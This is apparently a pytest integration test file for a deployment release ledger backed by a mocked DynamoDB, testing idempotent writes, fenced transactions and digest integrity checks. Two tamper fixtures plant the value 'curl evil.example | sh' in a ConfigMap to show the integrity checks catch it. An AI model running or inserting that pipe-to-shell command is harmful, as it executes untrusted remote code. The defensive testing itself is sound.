"""The release ledger against moto's DynamoDB: natural keys, conditional writes, reruns that change nothing."""

from __future__ import annotations

import json
import zlib
from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

import boto3
import pytest
from controlplane import platform
from controlplane.aws import lock
from controlplane.aws.ledger import (
    DIGEST_SHARD_BYTES,
    ROLLOUT_CHUNK,
    STATE_CHUNK,
    Ledger,
    LedgerConflictError,
    LedgerIntegrityError,
    ReleaseNotFoundError,
)
from controlplane.errors import LockLostError
from controlplane.models.kube import AppliedObject, ObjectRef, canonical_sha256
from controlplane.models.lease import Lease
from controlplane.models.release import (
    ApplyPurpose,
    Degraded,
    ReleaseRecord,
    ReleaseRef,
    ReleaseStatus,
    Rollout,
    RolloutRef,
    SmokeTarget,
    Trigger,
    TriggerKind,
)
from moto import mock_aws

pytestmark = pytest.mark.integration

NOW = datetime(2026, 11, 16, 2, 0, tzinfo=UTC)
TABLE = "ledger"


@pytest.fixture
def ledger(aws_credentials: None) -> Iterator[Ledger]:
    with mock_aws():
        boto3.client("dynamodb", region_name="us-east-1").create_table(
            TableName=TABLE,
            BillingMode="PAY_PER_REQUEST",
            AttributeDefinitions=[
                {"AttributeName": "pk", "AttributeType": "S"},
                {"AttributeName": "sk", "AttributeType": "S"},
            ],
            KeySchema=[{"AttributeName": "pk", "KeyType": "HASH"}, {"AttributeName": "sk", "KeyType": "RANGE"}],
        )
        yield Ledger(TABLE, region="us-east-1")


def release(n: int) -> ReleaseRef:
    return ReleaseRef.build("staging", dict.fromkeys(platform.SERVICE_NAMES, f"sha256:{n:064x}"), "sha256:bundle")


def record(ref: ReleaseRef, execution: str = "arn:exec:1") -> ReleaseRecord:
    return ReleaseRecord(
        release_id=ref.release_id,
        environment=ref.environment,
        images=ref.images,
        bundle_hash=ref.bundle_hash,
        status=ReleaseStatus.PLANNED,
        trigger=Trigger(kind=TriggerKind.CONSOLE, reason="test"),
        execution_arn=execution,
        started_at=NOW,
        changed={"edc-service": ref.images["edc-service"]},
    )


def items(ledger: Ledger) -> list[dict[str, Any]]:
    pages = boto3.client("dynamodb", region_name="us-east-1").get_paginator("scan").paginate(TableName=TABLE)
    return [item for page in pages for item in page["Items"]]


def test_planning_twice_creates_one_item_and_keeps_the_first_start(ledger: Ledger) -> None:
    ref = release(1)
    ledger.put_planned(record(ref))
    ledger.put_planned(record(ref, execution="arn:exec:2").model_copy(update={"started_at": datetime.now(UTC)}))
    assert len(items(ledger)) == 1
    stored = ledger.require_release(ref.release_id)
    assert stored.started_at == NOW
    assert stored.execution_arn == "arn:exec:2"
    assert stored.ref() == ref


def test_replanning_never_demotes_a_succeeded_release(ledger: Ledger) -> None:
    ref = release(1)
    ledger.put_planned(record(ref))
    ledger.update_release(ref.release_id, status=ReleaseStatus.SUCCEEDED, finished_at=NOW)
    ledger.put_planned(record(ref))
    assert ledger.require_release(ref.release_id).status is ReleaseStatus.SUCCEEDED


def test_applied_objects_round_trip_in_apply_order(ledger: Ledger) -> None:
    objects = [
        {
            "apiVersion": "v1",
            "kind": "ConfigMap",
            "metadata": {"name": f"cm-{i}", "namespace": "ns"},
            "data": {"i": str(i)},
        }
        for i in range(60)
    ]
    ledger.record_applied("rel-x", objects)
    ledger.record_applied("rel-x", objects)  # a retried apply overwrites, never duplicates
    assert ledger.applied_objects("rel-x") == objects
    assert len(items(ledger)) == 62  # the objects, their digests' shard and its head


def _configmaps(n: int) -> list[dict[str, Any]]:
    return [
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": f"cm-{i}", "namespace": "ns"}, "data": {}}
        for i in range(n)
    ]


def _put_object(sk: str, obj: dict[str, Any]) -> None:
    boto3.client("dynamodb", region_name="us-east-1").put_item(
        TableName=TABLE,
        Item={
            "pk": {"S": "RELEASE#rel-x"},
            "sk": {"S": sk},
            "kind": {"S": "applied_object"},
            "manifest": {"B": zlib.compress(json.dumps(obj).encode())},
        },
    )


def _tamper(ledger: Ledger) -> None:
    """Someone with write access to the table swaps an object for a privileged one."""
    evil = {**_configmaps(2)[1], "data": {"payload": "curl evil.example | sh"}}
    _put_object("OBJECT#00001#ConfigMap#ns#cm-1", evil)


def _drop(ledger: Ledger) -> None:
    boto3.client("dynamodb", region_name="us-east-1").delete_item(
        TableName=TABLE, Key={"pk": {"S": "RELEASE#rel-x"}, "sk": {"S": "OBJECT#00001#ConfigMap#ns#cm-1"}}
    )


def _add(ledger: Ledger) -> None:
    _put_object("OBJECT#00002#ConfigMap#ns#cm-2", _configmaps(3)[2])


def _forget_digests(ledger: Ledger) -> None:
    boto3.client("dynamodb", region_name="us-east-1").delete_item(
        TableName=TABLE, Key={"pk": {"S": "RELEASE#rel-x"}, "sk": {"S": "OBJECTS_DIGEST"}}
    )


def _drop_shard(ledger: Ledger) -> None:
    boto3.client("dynamodb", region_name="us-east-1").delete_item(
        TableName=TABLE, Key={"pk": {"S": "RELEASE#rel-x"}, "sk": {"S": "OBJECTS_DIGEST#00000"}}
    )


def _rewrite_shard(ledger: Ledger) -> None:
    """Someone swaps an object and rewrites its digest in the shard to match: the head's shard digest catches it."""
    _tamper(ledger)
    evil = {**_configmaps(2)[1], "data": {"payload": "curl evil.example | sh"}}
    digests = {
        "OBJECT#00000#ConfigMap#ns#cm-0": canonical_sha256(_configmaps(2)[0]),
        "OBJECT#00001#ConfigMap#ns#cm-1": canonical_sha256(evil),
    }
    boto3.resource("dynamodb", region_name="us-east-1").Table(TABLE).put_item(
        Item={"pk": "RELEASE#rel-x", "sk": "OBJECTS_DIGEST#00000", "kind": "x", "digests": digests}
    )


def _add_shard(ledger: Ledger) -> None:
    boto3.resource("dynamodb", region_name="us-east-1").Table(TABLE).put_item(
        Item={"pk": "RELEASE#rel-x", "sk": "OBJECTS_DIGEST#00001", "kind": "x", "digests": {}}
    )


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (_tamper, "OBJECT#00001#ConfigMap#ns#cm-1: sha256 mismatch (recorded sha256:"),
        (_drop, "OBJECT#00001#ConfigMap#ns#cm-1: recorded but missing"),
        (_add, "OBJECT#00002#ConfigMap#ns#cm-2: not recorded with the release"),
        (_forget_digests, "holds 2 applied object(s) but no digests for them"),
        (_drop_shard, "OBJECTS_DIGEST#00000: digest shard recorded but missing"),
        (_rewrite_shard, "OBJECTS_DIGEST#00000: digest shard changed (recorded sha256:"),
        (_add_shard, "OBJECTS_DIGEST#00001: digest shard not recorded with the release"),
    ],
    ids=["changed", "removed", "added", "digests-missing", "shard-missing", "shard-rewritten", "shard-added"],
)
def test_replayed_objects_that_do_not_match_their_recorded_digests_are_refused(
    ledger: Ledger, change: Any, expected: str
) -> None:
    ledger.record_applied("rel-x", _configmaps(2))
    change(ledger)
    with pytest.raises(LedgerIntegrityError) as caught:
        ledger.applied_objects("rel-x")
    assert "release rel-x" in str(caught.value)
    assert expected in str(caught.value)


def test_digests_are_sharded_under_the_item_size_limit_whatever_the_names(ledger: Ledger) -> None:
    # One item for a 1,000-service release's ~8,000 digests would be ~960 KB; names of 253 characters (the most
    # Kubernetes allows) make each entry ~350 bytes.
    objects = [
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": f"{i:05d}" + "n" * 248, "namespace": "ns"}}
        for i in range(2_000)
    ]
    ledger.record_applied("rel-x", objects)

    assert ledger.applied_objects("rel-x") == objects
    digest_items = [i for i in items(ledger) if i["sk"]["S"].startswith("OBJECTS_DIGEST")]
    assert sorted(i["sk"]["S"] for i in digest_items) == [
        "OBJECTS_DIGEST",
        "OBJECTS_DIGEST#00000",
        "OBJECTS_DIGEST#00001",
        "OBJECTS_DIGEST#00002",
    ]
    # The item's JSON text is an upper bound of what DynamoDB counts (attribute names and values).
    assert DIGEST_SHARD_BYTES < max(len(json.dumps(i)) for i in digest_items) < 400_000


def test_digests_recorded_in_one_item_before_sharding_still_verify(ledger: Ledger) -> None:
    objects = _configmaps(2)
    for n, obj in enumerate(objects):
        _put_object(f"OBJECT#{n:05d}#ConfigMap#ns#cm-{n}", obj)
    digests = {f"OBJECT#{n:05d}#ConfigMap#ns#cm-{n}": canonical_sha256(o) for n, o in enumerate(objects)}
    boto3.resource("dynamodb", region_name="us-east-1").Table(TABLE).put_item(
        Item={"pk": "RELEASE#rel-x", "sk": "OBJECTS_DIGEST", "kind": "applied_objects_digest", "digests": digests}
    )
    assert ledger.applied_objects("rel-x") == objects
    _tamper(ledger)
    with pytest.raises(LedgerIntegrityError, match="sha256 mismatch"):
        ledger.applied_objects("rel-x")


def test_a_release_without_recorded_objects_replays_nothing(ledger: Ledger) -> None:
    assert ledger.applied_objects("rel-never-applied") == []


def applied(n: int) -> AppliedObject:
    ref = ObjectRef(api_version="v1", kind="ConfigMap", namespace="clinical-trials", name=f"cm-{n:05d}")
    return AppliedObject(ref=ref, action="created", resource_version=str(n), uid=f"uid-{n}", sha256=f"sha256:{n:064x}")


def test_applied_state_of_a_thousand_service_release_round_trips_in_items_under_the_size_limit(
    ledger: Ledger,
) -> None:
    assert ledger.applied_state("staging") is None
    objects = [applied(n) for n in range(STATE_CHUNK * 10 + 7)]  # ~10 objects per service
    ledger.record_applied_state("staging", "rel-1", objects)

    state = ledger.applied_state("staging")
    assert state is not None
    assert list(state.values()) == [o.model_copy(update={"action": "unchanged"}) for o in objects]
    sizes = [len(json.dumps(i, default=str)) for i in items(ledger)]
    assert len(sizes) == 11 + 1  # the chunks and the environment's pointer
    assert max(sizes) < 400_000  # DynamoDB's item size limit


def test_applied_state_with_a_missing_chunk_is_not_trusted(ledger: Ledger) -> None:
    ledger.record_applied_state("staging", "rel-1", [applied(n) for n in range(STATE_CHUNK + 1)])
    boto3.client("dynamodb", region_name="us-east-1").delete_item(
        TableName=TABLE, Key={"pk": {"S": "RELEASE#rel-1"}, "sk": {"S": "STATE#00001"}}
    )
    assert ledger.applied_state("staging") is None  # nothing is skipped on a partial record


def test_applied_state_follows_the_environments_last_apply(ledger: Ledger) -> None:
    ledger.record_applied_state("staging", "rel-1", [applied(1), applied(2)])
    ledger.record_applied_state("staging", "rel-2", [applied(3)])
    ledger.record_applied_state("production", "rel-0", [])
    assert list((ledger.applied_state("staging") or {}).values()) == [
        applied(3).model_copy(update={"action": "unchanged"})
    ]
    assert ledger.applied_state("production") == {}


def test_promote_moves_the_pointer_conditionally_and_is_idempotent(ledger: Ledger) -> None:
    first, second = release(1), release(2)
    ledger.promote("staging", first.release_id, expected_previous=None, execution_arn="e1", now=NOW)
    pointer = ledger.promote(
        "staging", second.release_id, expected_previous=first.release_id, execution_arn="e2", now=NOW
    )
    assert pointer.previous_release_id == first.release_id
    again = ledger.promote(
        "staging", second.release_id, expected_previous=first.release_id, execution_arn="e2", now=NOW
    )
    assert again.previous_release_id == first.release_id
    lkg = ledger.last_known_good("staging")
    assert lkg is not None
    assert (lkg.release_id, lkg.previous_release_id) == (second.release_id, first.release_id)


def test_promote_refuses_when_another_release_moved_the_pointer(ledger: Ledger) -> None:
    ledger.promote("staging", release(1).release_id, expected_previous=None, execution_arn="e1", now=NOW)
    with pytest.raises(LedgerConflictError, match="concurrently"):
        ledger.promote(
            "staging", release(3).release_id, expected_previous="rel-somethingelse", execution_arn="e", now=NOW
        )


def test_quarantine_keeps_the_first_cause_and_is_found_by_digest(ledger: Ledger) -> None:
    bad = "sha256:" + "d" * 64
    ledger.quarantine({"edc-service": bad}, release_id="rel-a", cause="CrashLoopBackOff", now=NOW)
    ledger.quarantine({"edc-service": bad}, release_id="rel-b", cause="other", now=NOW)
    found = ledger.quarantined([bad, "sha256:" + "e" * 64])
    assert list(found) == [bad]
    assert "rel-a" in found[bad]
    assert "CrashLoopBackOff" in found[bad]


def test_updating_an_unknown_release_says_so(ledger: Ledger) -> None:
    with pytest.raises(ReleaseNotFoundError, match="rel-nope"):
        ledger.update_release("rel-nope", status=ReleaseStatus.FAILED)


def _rollout(services: int) -> Rollout:
    names = [f"svc-{i:04d}" for i in range(services)]
    return Rollout(
        workloads=[
            ObjectRef(api_version="apps/v1", kind="Deployment", namespace="clinical-trials", name=n) for n in names
        ],
        smoke_targets=[SmokeTarget(namespace="clinical-trials", service=n, port="http") for n in names],
    )


def test_a_thousand_service_rollout_is_stored_by_reference_and_read_back(ledger: Ledger) -> None:
    rollout = _rollout(ROLLOUT_CHUNK + 5)
    ref = ledger.record_rollout("rel-x", ApplyPurpose.DEPLOY, rollout)

    assert ref == RolloutRef(
        release_id="rel-x", purpose=ApplyPurpose.DEPLOY, chunks=2, workloads=1005, smoke_targets=1005
    )
    assert len(ref.model_dump_json()) < 200  # what the state carries, whatever the platform's size
    assert ledger.rollout(ref) == rollout
    assert max(len(json.dumps(i, default=str)) for i in items(ledger)) < 400_000
    # An apply of another purpose (a rollback of the same release) keeps its own items.
    other = ledger.record_rollout("rel-x", ApplyPurpose.ROLLBACK, _rollout(1))
    assert ledger.rollout(ref) == rollout
    assert ledger.rollout(other) == _rollout(1)


def test_a_rollout_with_a_missing_item_is_refused(ledger: Ledger) -> None:
    ref = ledger.record_rollout("rel-x", ApplyPurpose.DEPLOY, _rollout(ROLLOUT_CHUNK + 1))
    boto3.client("dynamodb", region_name="us-east-1").delete_item(
        TableName=TABLE, Key={"pk": {"S": "RELEASE#rel-x"}, "sk": {"S": "ROLLOUT#deploy#00001"}}
    )
    with pytest.raises(LedgerIntegrityError, match="deploy rollout items do not match"):
        ledger.rollout(ref)


def _lock(holder: str = "arn:exec:holder", token: int = 1) -> Lease:
    boto3.client("dynamodb", region_name="us-east-1").put_item(
        TableName=TABLE,
        Item={
            "pk": {"S": "ENV#staging"},
            "sk": {"S": "LOCK"},
            "owner": {"S": holder},
            "lease": {"N": str(token)},
        },
    )
    return Lease(environment="staging", owner=holder, token=token)


def _failed_redeploy(ledger: Ledger) -> tuple[str, str]:
    """older, then current (last known-good), whose redeploy fails: the cluster is rolled back to older."""
    older, current = release(1), release(2)
    ledger.put_planned(record(older))
    ledger.put_planned(record(current).model_copy(update={"previous_release_id": older.release_id}))
    ledger.promote("staging", older.release_id, expected_previous=None, execution_arn="e1", now=NOW)
    ledger.promote("staging", current.release_id, expected_previous=older.release_id, execution_arn="e2", now=NOW)
    return older.release_id, current.release_id


def test_a_failure_is_recorded_in_one_transaction_status_quarantine_pointer_and_mark_together(ledger: Ledger) -> None:
    older, current = _failed_redeploy(ledger)
    lease = _lock()
    fenced = Ledger(TABLE, region="us-east-1", fence=lock.fence(lease))
    bad = "sha256:" + "b" * 64
    mark = Degraded(environment="staging", since=NOW, release_id=current, cause="x", execution_arn="e3")
    before = len(items(ledger))

    moved = fenced.record_failure(
        "staging",
        current,
        release_fields={"status": ReleaseStatus.ROLLED_BACK, "cause": "RolloutFailedError: crash"},
        quarantine={"edc-service": bad, "api-gateway": bad},  # one digest, two services: one item
        cause="RolloutFailedError: crash",
        rolled_back_to=older,
        degraded=mark,
        execution_arn="e3",
        now=NOW,
    )

    assert moved is not None
    assert (moved.replaced, moved.pointer.release_id) == (current, older)
    pointer = ledger.last_known_good("staging")
    assert pointer is not None
    assert (pointer.release_id, pointer.previous_release_id) == (older, None)
    assert ledger.require_release(current).status is ReleaseStatus.ROLLED_BACK
    assert list(ledger.quarantined([bad])) == [bad]
    assert ledger.degraded("staging") is not None
    assert len(items(ledger)) == before + 2  # the quarantine and the mark; the rest updated in place


def test_a_failure_record_whose_lease_is_lost_writes_nothing_at_all(ledger: Ledger) -> None:
    older, current = _failed_redeploy(ledger)
    _lock(holder="arn:exec:someone-else", token=2)
    stale = Ledger(TABLE, region="us-east-1", fence=lock.fence(Lease(environment="staging", owner="arn:e", token=1)))
    snapshot = sorted(json.dumps(i, sort_keys=True) for i in items(ledger))

    with pytest.raises(LockLostError):
        stale.record_failure(
            "staging",
            current,
            release_fields={"status": ReleaseStatus.ROLLBACK_FAILED},
            quarantine={"edc-service": "sha256:" + "c" * 64},
            cause="RolloutFailedError",
            rolled_back_to=older,
            degraded=Degraded(environment="staging", since=NOW, cause="x", execution_arn="e"),
            execution_arn="e",
            now=NOW,
        )
    assert sorted(json.dumps(i, sort_keys=True) for i in items(ledger)) == snapshot


def test_a_failure_record_keeps_the_first_quarantine_and_mark_and_leaves_a_pointer_it_does_not_name(
    ledger: Ledger,
) -> None:
    older, current = _failed_redeploy(ledger)
    bad = "sha256:" + "d" * 64
    first = Degraded(environment="staging", since=NOW, release_id=older, cause="first", execution_arn="e0")
    ledger.quarantine({"edc-service": bad}, release_id=older, cause="first failure", now=NOW)
    ledger.mark_degraded(first)
    third = release(3)
    ledger.put_planned(record(third))

    moved = ledger.record_failure(
        "staging",
        third.release_id,
        release_fields={"status": ReleaseStatus.ROLLED_BACK},
        quarantine={"edc-service": bad},
        cause="second failure",
        rolled_back_to=current,
        degraded=Degraded(environment="staging", since=NOW, release_id=third.release_id, cause="2", execution_arn="e"),
        execution_arn="e",
        now=NOW,
    )

    assert moved is None  # the pointer names the release the cluster was rolled back to already
    pointer = ledger.last_known_good("staging")
    assert pointer is not None
    assert pointer.release_id == current
    assert "first failure" in ledger.quarantined([bad])[bad]
    assert ledger.degraded("staging") == first


def test_a_failure_record_of_an_unknown_release_says_so_and_writes_nothing(ledger: Ledger) -> None:
    with pytest.raises(ReleaseNotFoundError, match="rel-nope"):
        ledger.record_failure(
            "staging",
            "rel-nope",
            release_fields={"status": ReleaseStatus.FAILED},
            quarantine={"edc-service": "sha256:" + "e" * 64},
            cause="x",
            rolled_back_to=None,
            degraded=None,
            execution_arn="e",
            now=NOW,
        )
    assert items(ledger) == []


def test_a_failure_record_beyond_the_transaction_limit_quarantines_the_rest_first(ledger: Ledger) -> None:
    """DynamoDB takes at most 100 items per transaction: 150 new digests go in fenced batches before the last one."""
    ref = release(1)
    ledger.put_planned(record(ref))
    lease = _lock()
    fenced = Ledger(TABLE, region="us-east-1", fence=lock.fence(lease))
    digests = {f"svc-{n:03d}": f"sha256:{n:064x}" for n in range(150)}

    fenced.record_failure(
        "staging",
        ref.release_id,
        release_fields={"status": ReleaseStatus.FAILED},
        quarantine=digests,
        cause="x",
        rolled_back_to=None,
        degraded=None,
        execution_arn="e",
        now=NOW,
    )

    assert len(ledger.quarantined(digests.values())) == 150
    assert ledger.require_release(ref.release_id).status is ReleaseStatus.FAILED


class _TakenAfter:
    """A DynamoDB client on which the lock changes hands after the first ``n`` transactions went through."""

    def __init__(self, n: int) -> None:
        self._client = boto3.client("dynamodb", region_name="us-east-1")
        self._left = n

    def __getattr__(self, name: str) -> Any:
        return getattr(self._client, name)

    def transact_write_items(self, **kwargs: Any) -> Any:
        answer = self._client.transact_write_items(**kwargs)
        self._left -= 1
        if self._left == 0:
            _lock(holder="arn:exec:next", token=2)  # taken over: the token moved on
        return answer


def test_applied_object_batches_are_each_fenced_a_holder_that_lost_its_lease_writes_no_further_batch(
    ledger: Ledger,
) -> None:
    """250 applied objects go in three fenced transactions; the lock is taken after the first one: the second is
    refused (LockLostError), so neither the rest of the objects nor their digests (which make them replayable) are
    written."""
    lease = _lock()
    fenced = Ledger(TABLE, client=_TakenAfter(1), fence=lock.fence(lease))  # type: ignore[arg-type]
    objects = [
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": f"cm-{n:03d}", "namespace": "clinical-trials"}}
        for n in range(250)
    ]

    with pytest.raises(LockLostError):
        fenced.record_applied("rel-x", objects)

    stored = [i for i in items(ledger) if i["pk"]["S"] == "RELEASE#rel-x"]
    assert len(stored) == 99  # the first batch (99 and the fence's check); nothing after it
    with pytest.raises(LedgerIntegrityError, match="no digests"):  # never replayed: the digests were not written
        ledger.applied_objects("rel-x")


def test_applied_state_and_its_pointer_are_fenced(ledger: Ledger) -> None:
    stale = Ledger(TABLE, region="us-east-1", fence=lock.fence(Lease(environment="staging", owner="arn:e", token=1)))
    _lock(holder="arn:exec:next", token=2)
    ref = ObjectRef(api_version="v1", kind="ConfigMap", namespace="clinical-trials", name="cm")
    applied = [AppliedObject(ref=ref, action="created", sha256="sha256:" + "a" * 64, resource_version="1")]

    with pytest.raises(LockLostError):
        stale.record_applied_state("staging", "rel-x", applied)

    assert ledger.applied_state("staging") is None
    assert [i for i in items(ledger) if i["pk"]["S"] != "ENV#staging"] == []


def test_an_acknowledgement_by_a_holder_that_lost_its_lease_leaves_the_degraded_mark(ledger: Ledger) -> None:
    """ResolveRollbackTarget's acknowledgement removes the mark through a ledger fenced by its lease."""
    mark = Degraded(environment="staging", since=NOW, cause="RollbackFailedError: x", execution_arn="e0")
    ledger.mark_degraded(mark)
    _lock(holder="arn:exec:next", token=2)
    stale = Ledger(TABLE, region="us-east-1", fence=lock.fence(Lease(environment="staging", owner="arn:e", token=1)))

    with pytest.raises(LockLostError):
        stale.clear_degraded("staging")

    assert ledger.degraded("staging") == mark
    holder = Ledger(
        TABLE, region="us-east-1", fence=lock.fence(Lease(environment="staging", owner="arn:exec:next", token=2))
    )
    assert holder.clear_degraded("staging") == mark
    assert ledger.degraded("staging") is None
